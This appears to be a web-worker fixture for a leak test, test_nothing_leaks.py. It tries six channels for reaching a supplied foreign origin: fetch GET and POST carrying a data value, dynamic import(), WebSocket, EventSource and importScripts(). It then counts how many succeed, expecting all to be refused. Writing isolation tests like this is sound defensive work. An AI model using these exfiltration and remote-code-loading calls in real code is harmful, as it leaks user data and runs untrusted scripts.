// A worker of ours that tries everything to tell another origin something; see test_nothing_leaks.py.
self.onmessage = async ({ data: elsewhere }) => {
  const tries = [
    () => fetch(`${elsewhere}/worker-fetch?pain=8`, { mode: 'no-cors' }),
    () => fetch(`${elsewhere}/worker-post`, { mode: 'no-cors', method: 'POST', body: 'pain=8', keepalive: true }),
    () => import(`${elsewhere}/worker-import.js`),
    () => new Promise((done, fail) => {
      const socket = new WebSocket(`${elsewhere.replace('http', 'ws')}/worker-socket`)
      socket.onopen = done
      socket.onerror = fail
    }),
    () => new Promise((done, fail) => {
      const source = new EventSource(`${elsewhere}/worker-events`)
      source.onopen = done
      source.onerror = fail
    }),
    () => { importScripts(`${elsewhere}/worker-scripts.js`) },
  ]
  let succeeded = 0
  for (const attempt of tries) {
    try {
      await attempt()
      succeeded += 1
    } catch {
      // refused, as it should be
    }
  }
  self.postMessage({ tried: tries.length, succeeded })
}
